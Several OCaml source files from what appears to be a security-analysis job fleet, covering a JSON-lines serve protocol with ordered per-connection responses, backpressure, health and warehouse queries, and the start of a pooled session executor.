      | c -> Buffer.add_char b c)
    s

let render fields =
  let b = Buffer.create 128 in
  Buffer.add_char b '{';
  List.iteri
    (fun i (k, v) ->
      if i > 0 then Buffer.add_char b ',';
      Buffer.add_char b '"';
      add_escaped b k;
      Buffer.add_string b "\":";
      match v with
      | I n -> Buffer.add_string b (string_of_int n)
      | B bo -> Buffer.add_string b (if bo then "true" else "false")
      | S s ->
        Buffer.add_char b '"';
        add_escaped b s;
        Buffer.add_char b '"')
    fields;
  Buffer.add_char b '}';
  Buffer.contents b

(* ------------------------------------------------------------------ *)
(* request parsing                                                     *)

type request = {
  r_id : string option;
  r_scenario : string;
  r_expected : string;
  r_matches : Hth.Report.verdict -> bool;
}

let field_str fields k =
  match List.assoc_opt k fields with
  | Some (Forensics.Jsonl.Str s) -> Ok (Some s)
  | Some _ -> Error (Printf.sprintf "field %S must be a string" k)
  | None -> Ok None

let field_int fields k =
  match List.assoc_opt k fields with
  | Some (Forensics.Jsonl.Int n) -> Ok (Some n)
  | Some _ -> Error (Printf.sprintf "field %S must be an int" k)
  | None -> Ok None

let ( let* ) = Result.bind

(* A request either parses into (request, job) or into an error line. *)
let parse_request resolver line =
  let* fields = Forensics.Jsonl.parse_line line in
  let* op = field_str fields "op" in
  let* () =
    match op with
    | None | Some "run" -> Ok ()
    | Some op -> Error (Printf.sprintf "unsupported op %S" op)
  in
  let* scenario = field_str fields "scenario" in
  let* scenario =
    match scenario with
    | Some s -> Ok s
    | None -> Error "missing field \"scenario\""
  in
  let* target =
    match resolver scenario with
    | Some t -> Ok t
    | None -> Error (Printf.sprintf "unknown scenario %S" scenario)
  in
  let* id = field_str fields "id" in
  let* policy = field_str fields "policy" in
  let* engine =
    match policy with
    | None | Some "native" -> Ok "native"
    | Some "clips" -> Ok "clips"
    | Some p -> Error (Printf.sprintf "unknown policy %S (native|clips)" p)
  in
  let* seed = field_int fields "seed" in
  let* plan = field_str fields "fault_plan" in
  let* fault =
    match seed, plan with
    | Some _, Some _ -> Error "seed and fault_plan are mutually exclusive"
    | Some s, None -> Ok (Osim.Fault.seeded s)
    | None, Some p -> Osim.Fault.parse p
    | None, None -> Ok Osim.Fault.none
  in
  let* budget = field_str fields "budget" in
  let* budgets =
    match budget with
    | None -> Ok Hth.Engine.no_budgets
    | Some spec -> Hth.Engine.parse_budgets (String.split_on_char ',' spec)
  in
  Ok
    ( { r_id = id;
        r_scenario = scenario;
        r_expected = target.t_expected;
        r_matches = target.t_matches },
      Executor.job ~engine ~budgets ~fault target.t_setup )

(* ------------------------------------------------------------------ *)
(* ordered emission                                                    *)

type emitter = {
  e_mu : Mutex.t;
  e_pending : (int, string) Hashtbl.t;
  mutable e_next : int;
  e_out : string -> unit;
}

let emit em k line =
  Mutex.lock em.e_mu;
  Hashtbl.replace em.e_pending k line;
  while Hashtbl.mem em.e_pending em.e_next do
    em.e_out (Hashtbl.find em.e_pending em.e_next);
    Hashtbl.remove em.e_pending em.e_next;
    em.e_next <- em.e_next + 1
  done;
  Mutex.unlock em.e_mu

(* ------------------------------------------------------------------ *)
(* response rendering                                                  *)

let opt_id id rest = match id with None -> rest | Some i -> ("id", S i) :: rest

let ok_line seq (req : request) (r : Hth.Engine.result) =
  let v = Hth.Report.verdict r in
  let distinct = r.distinct in
  let findings =
    String.concat "\n" (List.map Secpert.Warning.to_string distinct)
  in
  render
    (("seq", I seq)
     :: opt_id req.r_id
          [ "scenario", S req.r_scenario;
            "status", S "ok";
            "verdict", S (Hth.Report.verdict_label v);
            "expected", S req.r_expected;
            "match", B (req.r_matches v);
            "warnings", I (List.length r.warnings);
            "distinct", I (List.length distinct);
            "events", I r.event_count;
            "degraded", B (r.degraded <> []);
            "findings", S findings ])

let error_line seq (req : request) e =
  render
    (("seq", I seq)
     :: opt_id req.r_id
          [ "scenario", S req.r_scenario;
            "status", S "error";
            "kind", S (Hth.Error.kind e);
            "error", S (Hth.Error.to_string e) ])

let bad_line seq msg =
  render [ "seq", I seq; "status", S "bad_request"; "error", S msg ]

(* ------------------------------------------------------------------ *)
(* the serve loop                                                      *)

let run ?(jobs = 1) ~resolver ~input ~output () =
  let native = Hth.Engine.create ~keep_events:false () in
  let clips =
    Hth.Engine.create ~policy:Secpert.System.Clips ~keep_events:false ()
  in
  let ex = Executor.create ~jobs [ "native", native; "clips", clips ] in
  let em =
    { e_mu = Mutex.create ();
      e_pending = Hashtbl.create 16;
      e_next = 0;
      e_out = output }
  in
  (* executor sequence -> (serve sequence, request echo data); written
     by the reader right after submit, so the collector may momentarily
     outrun it and must wait *)
  let meta_mu = Mutex.create () in
  let meta_cv = Condition.create () in
  let meta : (int, int * request) Hashtbl.t = Hashtbl.create 16 in
  let put_meta eseq v =
    Mutex.lock meta_mu;
    Hashtbl.replace meta eseq v;
    Condition.broadcast meta_cv;
    Mutex.unlock meta_mu
  in
  let take_meta eseq =
    Mutex.lock meta_mu;
    while not (Hashtbl.mem meta eseq) do
      Condition.wait meta_cv meta_mu
    done;
    let v = Hashtbl.find meta eseq in
    Hashtbl.remove meta eseq;
    Mutex.unlock meta_mu;
    v
  in
  let collector =
    Domain.spawn (fun () ->
        let rec go () =
          match Executor.next ex with
          | None -> ()
          | Some o ->
            let seq, req = take_meta o.Executor.o_seq in
            let line =
              match o.Executor.o_result with
              | Ok r -> ok_line seq req r
              | Error e -> error_line seq req e
            in
            emit em seq line;
            go ()
        in
        go ())
  in
  let rec read_loop k =
    match input () with
    | None -> k
    | Some line ->
      (match parse_request resolver line with
       | Error msg -> emit em k (bad_line k msg)
       | Ok (req, job) ->
         let eseq = Executor.submit ex job in
         put_meta eseq (k, req));
      read_loop (k + 1)
  in
  let total = read_loop 0 in
  Executor.close ex;
  Domain.join collector;
  Executor.shutdown ex;
  total
