(* Line-framed JSON job protocol over one shared, supervised fleet.

   A [service] compiles both engines (native, clips) exactly once and
   owns a Supervisor: executor, deadline watchdog, global admission
   cap.  Any number of connections then attach with
   [serve_connection]; their requests multiplex onto the same worker
   domains and their responses come back per-connection in input
   order, routed by a single collector thread.

   One request per input line — a flat JSON object, the same dialect
   Obs.Trace emits and Forensics.Jsonl parses:

     {"scenario":"pma","policy":"clips","seed":7,"id":"job-42"}

   Fields: [scenario] (required), [policy] "native"|"clips" (default
   native), [seed] int or [fault_plan] string (mutually exclusive),
   [budget] "KEY=N,KEY=N", [id] echoed back verbatim, [op]
   "run" (default) | "health" | "stats" | "store_stats" |
   "store_query".  A store_query request adds [kind]
   "query" (default; filters [scenario]/[rule]/[severity]/[resource]/
   [verdict]) | "profile" | "diff" (requires [run]) plus [limit], and
   is answered in-line from the attached warehouse via
   Store.Fleet_query — no fleet slot, no trace decompression.

   With a warehouse attached ([create ?store]) every run request also
   produces a sealed trace segment; the collector — the sole consumer
   of Supervisor.next — appends it before emitting the response, so
   the manifest is the single-writer append log the warehouse
   requires, and a response line in hand implies the run is already
   durable in the store.

   One response line per request, in that connection's input order,
   whatever order the fleet finished them in:

     {"seq":0,"id":"job-42","scenario":"pma","status":"ok",
      "verdict":"SUSPICIOUS (HIGH)","expected":"suspicious (HIGH)",
      "match":true,"warnings":5,"distinct":2,"events":210,
      "degraded":false,"findings":"..."}

   Malformed lines produce {"status":"bad_request",...} at their
   sequence position instead of poisoning the stream.

   Overload policy (DESIGN.md §17): the per-connection window BLOCKS
   the reader — backpressure that can never change response content —
   while the supervisor's global cap answers
   {"status":"overloaded","retry":true} and a draining service
   answers {"status":"shutting_down","retry":false}.  Run responses
   are session-deterministic, so serving the same request script on
   one connection is byte-identical across runs and job counts;
   overloaded lines (cross-connection races), wall-clock timeout
   errors, and health/stats telemetry are the documented exceptions. *)

type target = {
  t_setup : Hth.Engine.setup;
  t_expected : string;
  t_matches : Hth.Report.verdict -> bool;
}

type resolver = string -> target option

let c_requests = Obs.Counter.make "serve.requests"
let c_overloaded = Obs.Counter.make "serve.overloaded"
let h_latency = Obs.Histogram.make "serve.latency.ms"

(* ------------------------------------------------------------------ *)
(* flat-JSON response rendering (mirrors the escapes Jsonl accepts)    *)

type field = I of int | S of string | B of bool

let add_escaped b s =
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\t' -> Buffer.add_string b "\\t"
      | '\r' -> Buffer.add_string b "\\r"
      | c when Char.code c < 0x20 ->
        Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s

let render fields =
  let b = Buffer.create 128 in
  Buffer.add_char b '{';
  List.iteri
    (fun i (k, v) ->
      if i > 0 then Buffer.add_char b ',';
      Buffer.add_char b '"';
      add_escaped b k;
      Buffer.add_string b "\":";
      match v with
      | I n -> Buffer.add_string b (string_of_int n)
      | B bo -> Buffer.add_string b (if bo then "true" else "false")
      | S s ->
        Buffer.add_char b '"';
        add_escaped b s;
        Buffer.add_char b '"')
    fields;
  Buffer.add_char b '}';
  Buffer.contents b

(* ------------------------------------------------------------------ *)
(* request parsing                                                     *)

type request = {
  r_id : string option;
  r_scenario : string;
  r_expected : string;
  r_matches : Hth.Report.verdict -> bool;
  (* manifest provenance, carried so the collector can describe the
     run when a warehouse is attached *)
  r_policy : string;
  r_seed : int option;
  r_fault : string option;
}

(* Cross-run warehouse queries answered in-line (no fleet slot): the
   three Fleet_query surfaces, plus a row cap so a huge store cannot
   produce an unbounded response line. *)
type squery_kind =
  | Q_hits of Store.Fleet_query.filter
  | Q_profile
  | Q_diff of string  (* run id *)

type parsed =
  | P_run of request * Executor.job
  | P_health of string option  (* id to echo *)
  | P_stats of string option
  | P_store_stats of string option
  | P_store_query of string option * squery_kind * int  (* id, kind, limit *)

let field_str fields k =
  match List.assoc_opt k fields with
  | Some (Forensics.Jsonl.Str s) -> Ok (Some s)
  | Some _ -> Error (Printf.sprintf "field %S must be a string" k)
  | None -> Ok None

let field_int fields k =
  match List.assoc_opt k fields with
  | Some (Forensics.Jsonl.Int n) -> Ok (Some n)
  | Some _ -> Error (Printf.sprintf "field %S must be an int" k)
  | None -> Ok None

let ( let* ) = Result.bind

(* A request either parses into a [parsed] or into an error line.
   [default_ticks > 0] gives budget-less sessions a tick budget so a
   runaway-but-ticking guest fails deterministically long before the
   wall-clock watchdog has to get involved. *)
let parse_request resolver ~default_ticks ~store line =
  let* fields = Forensics.Jsonl.parse_line line in
  let* op = field_str fields "op" in
  let* id = field_str fields "id" in
  match op with
  | Some "health" -> Ok (P_health id)
  | Some "stats" -> Ok (P_stats id)
  | Some "store_stats" -> Ok (P_store_stats id)
  | Some "store_query" ->
    let* limit = field_int fields "limit" in
    let limit = match limit with Some n when n > 0 -> n | _ -> 50 in
    let* kind = field_str fields "kind" in
    (match kind with
     | None | Some "query" ->
       let* scenario = field_str fields "scenario" in
       let* rule = field_str fields "rule" in
       let* severity = field_str fields "severity" in
       let* resource = field_str fields "resource" in
       let* verdict = field_str fields "verdict" in
       Ok
         (P_store_query
            ( id,
              Q_hits
                { Store.Fleet_query.q_scenario = scenario;
                  q_rule = rule;
                  q_severity = severity;
                  q_resource = resource;
                  q_verdict = verdict },
              limit ))
     | Some "profile" -> Ok (P_store_query (id, Q_profile, limit))
     | Some "diff" ->
       let* run = field_str fields "run" in
       (match run with
        | Some r -> Ok (P_store_query (id, Q_diff r, limit))
        | None -> Error "store_query kind \"diff\" requires field \"run\"")
     | Some k ->
       Error
         (Printf.sprintf "unknown store_query kind %S (query|profile|diff)"
            k))
  | None | Some "run" ->
    let* scenario = field_str fields "scenario" in
    let* scenario =
      match scenario with
      | Some s -> Ok s
      | None -> Error "missing field \"scenario\""
    in
    let* target =
      match resolver scenario with
      | Some t -> Ok t
      | None -> Error (Printf.sprintf "unknown scenario %S" scenario)
    in
    let* policy = field_str fields "policy" in
    let* engine =
      match policy with
      | None | Some "native" -> Ok "native"
      | Some "clips" -> Ok "clips"
      | Some p -> Error (Printf.sprintf "unknown policy %S (native|clips)" p)
    in
    let* seed = field_int fields "seed" in
    let* plan = field_str fields "fault_plan" in
    let* fault =
      match seed, plan with
      | Some _, Some _ -> Error "seed and fault_plan are mutually exclusive"
      | Some s, None -> Ok (Osim.Fault.seeded s)
      | None, Some p -> Osim.Fault.parse p
      | None, None -> Ok Osim.Fault.none
    in
    let* budget = field_str fields "budget" in
    let* budgets =
      match budget with
      | None -> Ok Hth.Engine.no_budgets
      | Some spec -> Hth.Engine.parse_budgets (String.split_on_char ',' spec)
    in
    let budgets =
      match budgets.Hth.Engine.b_ticks with
      | None when default_ticks > 0 ->
        { budgets with Hth.Engine.b_ticks = Some default_ticks }
      | _ -> budgets
    in
    Ok
      (P_run
         ( { r_id = id;
             r_scenario = scenario;
             r_expected = target.t_expected;
             r_matches = target.t_matches;
             r_policy = engine;
             r_seed = seed;
             r_fault = plan },
           Executor.job ~engine ~budgets ~fault ~store target.t_setup ))
  | Some op ->
    Error
      (Printf.sprintf
         "unsupported op %S (run|health|stats|store_stats|store_query)" op)

(* ------------------------------------------------------------------ *)
(* per-connection state: ordered emission + bounded in-flight window   *)

type conn = {
  c_mu : Mutex.t;
  c_cv : Condition.t;  (* in-flight moved / response flushed *)
  c_pending : (int, string) Hashtbl.t;  (* conn seq -> response line *)
  mutable c_next : int;  (* next conn seq to write out *)
  mutable c_inflight : int;  (* admitted fleet jobs not yet answered *)
  mutable c_dead : bool;  (* output failed; drain without writing *)
  c_out : string -> unit;
  c_window : int;
}

(* Flush in-order under [c_mu].  A failing [c_out] (client went away
   mid-stream) marks the connection dead: remaining responses are
   consumed and dropped so the fleet and the other connections never
   notice. *)
let flush_locked c =
  while Hashtbl.mem c.c_pending c.c_next do
    let l = Hashtbl.find c.c_pending c.c_next in
    Hashtbl.remove c.c_pending c.c_next;
    (if not c.c_dead then try c.c_out l with _ -> c.c_dead <- true);
    c.c_next <- c.c_next + 1;
    Condition.broadcast c.c_cv
  done

let conn_emit c k line =
  Mutex.lock c.c_mu;
  Hashtbl.replace c.c_pending k line;
  flush_locked c;
  Mutex.unlock c.c_mu

(* Same, but also credits the connection's in-flight window (fleet
   responses only — local responses never held a slot). *)
let conn_fleet_emit c k line =
  Mutex.lock c.c_mu;
  Hashtbl.replace c.c_pending k line;
  flush_locked c;
  c.c_inflight <- c.c_inflight - 1;
  Condition.broadcast c.c_cv;
  Mutex.unlock c.c_mu

let conn_uncount c =
  Mutex.lock c.c_mu;
  c.c_inflight <- c.c_inflight - 1;
  Condition.broadcast c.c_cv;
  Mutex.unlock c.c_mu

(* ------------------------------------------------------------------ *)
(* the service: one supervisor, one collector, N connections           *)

type route = {
  rt_conn : conn;
  rt_seq : int;  (* the connection's sequence number *)
  rt_req : request;
  rt_t0 : float;  (* submit time, for serve.latency.ms *)
}

type service = {
  sv_sup : Supervisor.t;
  sv_resolver : resolver;
  sv_default_ticks : int;  (* 0 = off *)
  sv_window : int;
  sv_store : Store.Warehouse.t option;
      (* appended to only by the collector; reads (store_stats) take
         [sv_obs_mu], as does the collector around each append *)
  (* executor sequence -> route; written by a reader right after
     submit, so the collector may momentarily outrun it and waits *)
  sv_mu : Mutex.t;
  sv_cv : Condition.t;
  sv_meta : (int, route) Hashtbl.t;
  sv_obs_mu : Mutex.t;  (* latency/counter cells vs. stats reads *)
  mutable sv_collector : Thread.t option;
}

let put_meta svc eseq rt =
  Mutex.lock svc.sv_mu;
  Hashtbl.replace svc.sv_meta eseq rt;
  Condition.broadcast svc.sv_cv;
  Mutex.unlock svc.sv_mu

let take_meta svc eseq =
  Mutex.lock svc.sv_mu;
  while not (Hashtbl.mem svc.sv_meta eseq) do
    Condition.wait svc.sv_cv svc.sv_mu
  done;
  let rt = Hashtbl.find svc.sv_meta eseq in
  Hashtbl.remove svc.sv_meta eseq;
  Mutex.unlock svc.sv_mu;
  rt

(* ------------------------------------------------------------------ *)
(* response rendering                                                  *)

let opt_id id rest = match id with None -> rest | Some i -> ("id", S i) :: rest

let ok_line seq (req : request) (r : Hth.Engine.result) =
  let v = Hth.Report.verdict r in
  let distinct = r.distinct in
  let findings =
    String.concat "\n" (List.map Secpert.Warning.to_string distinct)
  in
  render
    (("seq", I seq)
     :: opt_id req.r_id
          [ "scenario", S req.r_scenario;
            "status", S "ok";
            "verdict", S (Hth.Report.verdict_label v);
            "expected", S req.r_expected;
            "match", B (req.r_matches v);
            "warnings", I (List.length r.warnings);
            "distinct", I (List.length distinct);
            "events", I r.event_count;
            "degraded", B (r.degraded <> []);
            "findings", S findings ])

let error_line seq (req : request) e =
  render
    (("seq", I seq)
     :: opt_id req.r_id
          [ "scenario", S req.r_scenario;
            "status", S "error";
            "kind", S (Hth.Error.kind e);
            "error", S (Hth.Error.to_string e) ])

let bad_line seq msg =
  render [ "seq", I seq; "status", S "bad_request"; "error", S msg ]

let overloaded_line seq (req : request) =
  render
    (("seq", I seq)
     :: opt_id req.r_id
          [ "scenario", S req.r_scenario;
            "status", S "overloaded";
            "retry", B true ])

let draining_line seq (req : request) =
  render
    (("seq", I seq)
     :: opt_id req.r_id
          [ "scenario", S req.r_scenario;
            "status", S "shutting_down";
            "retry", B false ])

let health_line svc seq id =
  let h = Supervisor.health svc.sv_sup in
  render
    (("seq", I seq)
     :: opt_id id
          [ "status", S "health";
            "jobs", I h.Supervisor.h_jobs;
            "inflight", I h.Supervisor.h_inflight;
            "draining", B h.Supervisor.h_draining;
            "timeouts", I h.Supervisor.h_timeouts;
            "respawns", I h.Supervisor.h_respawns;
            "executed", I h.Supervisor.h_stats.Pool.executed;
            "stolen", I h.Supervisor.h_stats.Pool.stolen ])

let stats_line svc seq id =
  Mutex.lock svc.sv_obs_mu;
  let requests = Obs.Counter.value c_requests in
  let overloaded = Obs.Counter.value c_overloaded in
  let n = Obs.Histogram.count h_latency in
  (* integer microseconds: the protocol stays inside the Jsonl dialect
     (no float literals), and a microsecond is plenty of resolution *)
  let us p = int_of_float (Obs.Histogram.percentile h_latency p *. 1000.) in
  let p50 = us 50. and p95 = us 95. and p99 = us 99. in
  Mutex.unlock svc.sv_obs_mu;
  render
    (("seq", I seq)
     :: opt_id id
          [ "status", S "stats";
            "requests", I requests;
            "overloaded", I overloaded;
            "latency_count", I n;
            "latency_p50_us", I p50;
            "latency_p95_us", I p95;
            "latency_p99_us", I p99 ])

let store_stats_line svc seq id =
  match svc.sv_store with
  | None ->
    render
      (("seq", I seq)
       :: opt_id id [ "status", S "store_stats"; "enabled", B false ])
  | Some wh ->
    Mutex.lock svc.sv_obs_mu;
    let total = Store.Warehouse.total wh in
    let appended = Store.Warehouse.appended wh in
    let raw = Store.Warehouse.raw_bytes wh in
    let framed = Store.Warehouse.framed_bytes wh in
    Mutex.unlock svc.sv_obs_mu;
    render
      (("seq", I seq)
       :: opt_id id
            [ "status", S "store_stats";
              "enabled", B true;
              "dir", S (Store.Warehouse.dir wh);
              "runs", I total;
              "appended", I appended;
              "raw_bytes", I raw;
              "framed_bytes", I framed ])

let take n l = List.filteri (fun i _ -> i < n) l

(* Answer a cross-run warehouse query from manifests and segment
   indexes (Fleet_query never decompresses a trace, so this stays
   cheap enough to run on the reader thread).  Rows mirror the
   hth_trace fleet renderings, newline-joined into one field, capped
   at [limit] rows; the total is always reported so a capped response
   is recognizable. *)
let store_query_line svc seq (id, kind, limit) =
  let kind_label =
    match kind with Q_hits _ -> "query" | Q_profile -> "profile"
                  | Q_diff _ -> "diff"
  in
  let base rest =
    ("seq", I seq)
    :: opt_id id (("status", S "store_query") :: ("kind", S kind_label) :: rest)
  in
  let err e =
    base [ "enabled", B true; "error", S (Hth.Error.to_string e) ]
  in
  match svc.sv_store with
  | None -> render (base [ "enabled", B false ])
  | Some wh ->
    (* snapshot the manifest under the append lock so a response never
       observes a half-appended entry *)
    Mutex.lock svc.sv_obs_mu;
    let view = Store.Warehouse.load (Store.Warehouse.dir wh) in
    Mutex.unlock svc.sv_obs_mu;
    let fields =
      match view with
      | Error e -> err e
      | Ok view ->
        (match kind with
         | Q_hits f ->
           (match Store.Fleet_query.query view f with
            | Error e -> err e
            | Ok hits ->
              let rows =
                List.map
                  (fun (h : Store.Fleet_query.hit) ->
                    Printf.sprintf "%s %s %s" h.h_entry.e_run
                      h.h_entry.e_verdict
                      (match h.h_steps with
                       | [] -> "-"
                       | steps ->
                         "steps "
                         ^ String.concat ","
                             (List.map string_of_int steps)))
                  (take limit hits)
              in
              base
                [ "enabled", B true;
                  "runs", I (List.length hits);
                  "hits", S (String.concat "\n" rows) ])
         | Q_profile ->
           (match Store.Fleet_query.profile view with
            | Error e -> err e
            | Ok blocks ->
              let rows =
                List.map
                  (fun (b : Store.Fleet_query.block) ->
                    Printf.sprintf "pid %d 0x%06x hits %d runs %d" b.b_pid
                      b.b_addr b.b_count b.b_runs)
                  (take limit blocks)
              in
              base
                [ "enabled", B true;
                  "blocks", I (List.length blocks);
                  "profile", S (String.concat "\n" rows) ])
         | Q_diff run ->
           (match Store.Fleet_query.diff view ~run with
            | Error e -> err e
            | Ok (drifts, compared) ->
              let rows =
                List.map
                  (fun (d : Store.Fleet_query.drift) ->
                    Printf.sprintf "%s %d median %d" d.d_name d.d_value
                      d.d_median)
                  (take limit drifts)
              in
              base
                [ "enabled", B true;
                  "drifts", I (List.length drifts);
                  "compared", I compared;
                  "diff", S (String.concat "\n" rows) ]))
    in
    render fields

(* ------------------------------------------------------------------ *)
(* collector: routes global-order outcomes to per-connection emitters  *)

(* Store one outcome's segment before its response is emitted: run id
   is scenario@eseq (executor sequence — unique and stable for the
   life of the service), error outcomes are stored too with
   verdict "error:<kind>" so the warehouse is a complete record of
   what the fleet was asked to do. *)
let store_outcome svc (rt : route) (o : Executor.outcome) =
  match svc.sv_store, o.Executor.o_segment with
  | None, _ | _, None -> ()
  | Some wh, Some sealed ->
    let req = rt.rt_req in
    let verdict, matched, warnings, distinct, degraded =
      match o.Executor.o_result with
      | Ok r ->
        let v = Hth.Report.verdict r in
        ( Hth.Report.verdict_label v, req.r_matches v,
          List.length r.Hth.Engine.warnings,
          List.length r.Hth.Engine.distinct,
          r.Hth.Engine.degraded <> [] )
      | Error e -> "error:" ^ Hth.Error.kind e, false, 0, 0, false
    in
    let entry =
      { Store.Manifest.e_run =
          Store.Warehouse.sanitize_run req.r_scenario
          ^ "@" ^ string_of_int o.Executor.o_seq;
        e_scenario = req.r_scenario;
        e_policy = req.r_policy;
        e_seed = req.r_seed;
        e_fault = req.r_fault;
        e_verdict = verdict;
        e_expected = req.r_expected;
        e_match = matched;
        e_warnings = warnings;
        e_distinct = distinct;
        e_degraded = degraded;
        e_steps = 0;  (* filled by append *)
        e_raw_bytes = 0;
        e_framed_bytes = 0;
        e_digest =
          Store.Manifest.digest sealed.Store.Segment.s_index.ix_counters;
        e_segment = "" }
    in
    Mutex.lock svc.sv_obs_mu;
    Fun.protect
      ~finally:(fun () -> Mutex.unlock svc.sv_obs_mu)
      (fun () -> ignore (Store.Warehouse.append wh ~entry ~sealed))

let collector svc =
  let rec go () =
    match Supervisor.next svc.sv_sup with
    | None -> ()  (* executor closed and fully drained *)
    | Some o ->
      let rt = take_meta svc o.Executor.o_seq in
      (* durable before visible: the response line implies the run is
         already in the warehouse *)
      store_outcome svc rt o;
      let line =
        match o.Executor.o_result with
        | Ok r -> ok_line rt.rt_seq rt.rt_req r
        | Error e -> error_line rt.rt_seq rt.rt_req e
      in
      Mutex.lock svc.sv_obs_mu;
      Obs.Counter.incr c_requests;
      Obs.Histogram.observe h_latency
        ((Unix.gettimeofday () -. rt.rt_t0) *. 1000.);
      Mutex.unlock svc.sv_obs_mu;
      conn_fleet_emit rt.rt_conn rt.rt_seq line;
      go ()
  in
  go ()

let create ?(jobs = 1) ?deadline ?(max_inflight = 256) ?(window = 64)
    ?(default_ticks = 0) ?store ~resolver () =
  let native = Hth.Engine.create ~keep_events:false () in
  let clips =
    Hth.Engine.create ~policy:Secpert.System.Clips ~keep_events:false ()
  in
  let sup =
    Supervisor.create ?deadline ~max_inflight ~jobs
      [ "native", native; "clips", clips ]
  in
  let svc =
    { sv_sup = sup;
      sv_resolver = resolver;
      sv_default_ticks = max 0 default_ticks;
      sv_window = max 1 window;
      sv_store = store;
      sv_mu = Mutex.create ();
      sv_cv = Condition.create ();
      sv_meta = Hashtbl.create 64;
      sv_obs_mu = Mutex.create ();
      sv_collector = None }
  in
  svc.sv_collector <- Some (Thread.create collector svc);
  svc

let supervisor svc = svc.sv_sup

let drain svc = Supervisor.begin_drain svc.sv_sup

let serve_connection svc ~input ~output () =
  let c =
    { c_mu = Mutex.create ();
      c_cv = Condition.create ();
      c_pending = Hashtbl.create 16;
      c_next = 0;
      c_inflight = 0;
      c_dead = false;
      c_out = output;
      c_window = svc.sv_window }
  in
  let rec loop k =
    match input () with
    | None -> k
    | Some line ->
      (match
         parse_request svc.sv_resolver ~default_ticks:svc.sv_default_ticks
           ~store:(Option.is_some svc.sv_store) line
       with
       | Error msg -> conn_emit c k (bad_line k msg)
       | Ok (P_health id) -> conn_emit c k (health_line svc k id)
       | Ok (P_stats id) -> conn_emit c k (stats_line svc k id)
       | Ok (P_store_stats id) -> conn_emit c k (store_stats_line svc k id)
       | Ok (P_store_query (id, kind, limit)) ->
         conn_emit c k (store_query_line svc k (id, kind, limit))
       | Ok (P_run (req, job)) ->
         (* per-connection window: block the reader — deterministic
            backpressure, response content never depends on timing *)
         Mutex.lock c.c_mu;
         while c.c_inflight >= c.c_window do
           Condition.wait c.c_cv c.c_mu
         done;
         c.c_inflight <- c.c_inflight + 1;
         Mutex.unlock c.c_mu;
         let t0 = Unix.gettimeofday () in
         (match Supervisor.submit svc.sv_sup job with
          | Supervisor.Admitted eseq ->
            put_meta svc eseq
              { rt_conn = c; rt_seq = k; rt_req = req; rt_t0 = t0 }
          | Supervisor.Overloaded ->
            conn_uncount c;
            Obs.Counter.incr c_overloaded;
            conn_emit c k (overloaded_line k req)
          | Supervisor.Draining ->
            conn_uncount c;
            conn_emit c k (draining_line k req)));
      loop (k + 1)
  in
  let total = loop 0 in
  (* the connection's admitted jobs must all come back (the watchdog
     guarantees progress) before the caller may close the transport *)
  Mutex.lock c.c_mu;
  while c.c_inflight > 0 do
    Condition.wait c.c_cv c.c_mu
  done;
  Mutex.unlock c.c_mu;
  total

let shutdown svc =
  Supervisor.begin_drain svc.sv_sup;
  Supervisor.await_drain svc.sv_sup;
  Supervisor.shutdown svc.sv_sup;
  Option.iter Thread.join svc.sv_collector;
  svc.sv_collector <- None

(* ------------------------------------------------------------------ *)
(* the classic single-transport loop, now sugar over a service         *)

let run ?(jobs = 1) ~resolver ~input ~output () =
  let svc = create ~jobs ~resolver () in
  Fun.protect
    ~finally:(fun () -> shutdown svc)
    (fun () -> serve_connection svc ~input ~output ())
