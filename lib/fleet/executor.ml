(* Session executor over Pool: submits Engine sessions, returns
   outcomes in submission order.

   Sharing model: the caller's engines are compiled once; [create]
   gives every worker its own [Hth.Engine.fork] of each (shared
   compiled policy / trust / config, private image cache, taint-space
   pool and guest memory pool).  A task runs only on its worker's
   fork, so no mutable engine state ever crosses domains.

   Ordering: submissions get a dense sequence number; finished
   outcomes land in a reorder buffer and [next] releases them strictly
   in sequence, so downstream output is byte-identical to a sequential
   run no matter how the pool interleaved. *)

type job = {
  j_engine : string;
  j_setup : Hth.Engine.setup;
  j_budgets : Hth.Engine.budgets;
  j_fault : Osim.Fault.plan;
  j_trace : bool;
}

let job ?(engine = "default") ?(budgets = Hth.Engine.no_budgets)
    ?(fault = Osim.Fault.none) ?(trace = false) setup =
  { j_engine = engine; j_setup = setup; j_budgets = budgets;
    j_fault = fault; j_trace = trace }

type outcome = {
  o_seq : int;
  o_trace : string option;
  o_result : (Hth.Engine.result, Hth.Error.t) Stdlib.result;
}

type t = {
  pool : Pool.t;
  engines : (string * Hth.Engine.t array) list;  (* name -> per-worker forks *)
  mu : Mutex.t;
  cv : Condition.t;
  ready : (int, outcome) Hashtbl.t;  (* finished, not yet released *)
  mutable next_seq : int;  (* next sequence number to assign *)
  mutable next_out : int;  (* next sequence number [next] releases *)
  mutable closed : bool;
}

let create ?(jobs = 1) engines =
  let jobs = max 1 jobs in
  let forks =
    List.map
      (fun (name, e) -> name, Array.init jobs (fun _ -> Hth.Engine.fork e))
      engines
  in
  { pool = Pool.create ~jobs ();
    engines = forks;
    mu = Mutex.create ();
    cv = Condition.create ();
    ready = Hashtbl.create 64;
    next_seq = 0;
    next_out = 0;
    closed = false }

let jobs t = Pool.jobs t.pool

(* Runs on a worker domain.  Every failure path (unknown engine,
   session error, escaped exception) becomes an ordinary outcome so
   the sequence stays gap-free and the worker survives. *)
let run_one t job seq w =
  let outcome =
    match List.assoc_opt job.j_engine t.engines with
    | None ->
      { o_seq = seq;
        o_trace = None;
        o_result =
          Error
            (Hth.Error.Policy_error
               (Printf.sprintf "fleet: unknown engine %S" job.j_engine)) }
    | Some forks ->
      let eng = forks.(w) in
      let buf = if job.j_trace then Some (Buffer.create 4096) else None in
      Option.iter Obs.Trace.to_buffer buf;
      let result =
        Fun.protect
          ~finally:(fun () -> if job.j_trace then Obs.Trace.disable ())
          (fun () ->
            try
              Hth.Engine.run_outcome eng ~budgets:job.j_budgets
                ~fault:job.j_fault job.j_setup
            with exn ->
              Error
                (Hth.Error.Crash
                   { phase = "fleet"; exn = Printexc.to_string exn }))
      in
      { o_seq = seq;
        o_trace = Option.map Buffer.contents buf;
        o_result = result }
  in
  Mutex.lock t.mu;
  Hashtbl.replace t.ready seq outcome;
  Condition.broadcast t.cv;
  Mutex.unlock t.mu

let submit t job =
  Mutex.lock t.mu;
  if t.closed then begin
    Mutex.unlock t.mu;
    invalid_arg "Fleet.Executor.submit: executor is closed"
  end;
  let seq = t.next_seq in
